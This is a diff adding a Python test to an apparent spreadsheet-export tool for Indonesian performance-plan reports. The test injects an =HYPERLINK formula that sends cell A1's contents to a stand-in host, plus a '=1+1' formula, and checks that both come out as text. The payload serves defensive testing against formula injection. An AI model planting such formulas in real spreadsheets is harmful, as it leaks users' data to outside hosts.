@@ -14,6 +14,7 @@ import re
 import shutil
 import subprocess
 import sys
+import zipfile
 from decimal import Decimal
 from pathlib import Path
 
@@ -234,3 +235,22 @@ def test_libreoffice_opens_it(repo, tmp_path):
     # numbers kept their formats: LibreOffice (English here) shows 90.00 and 1,600 as stored
     assert ",IKU-01,Persentase masyarakat" in lines[3] and lines[3].endswith(",%,90.00,")
     assert lines[4].endswith(',orang,"1,600",')
+
+
+def test_renstra_text_stays_text(sample_copy, tmp_path):
+    renstra = sample_copy / "reports/renstra.yml"
+    text = renstra.read_text(encoding="utf-8")
+    head = "          - kode: IKU-01\n            uraian: "
+    start = text.index(head) + len(head)
+    hostile = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
+    text = text[:start] + json.dumps(hostile) + text[text.index("\n", start) :]
+    renstra.write_text(text.replace('satuan: "%"', 'satuan: "=1+1"', 1), encoding="utf-8")
+    book = _workbook(sample_copy, tmp_path / "tabel.xlsx")
+    cell = _rows(book["Pengukuran"])["IKU-01"]["Indikator Kinerja"]
+    assert (cell.value, cell.data_type) == (hostile, "s")
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            assert all(c.data_type != "f" for c in row), sheet.title
+    with zipfile.ZipFile(tmp_path / "tabel.xlsx") as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert not any(b"<f>" in archive.read(n) for n in sheets)
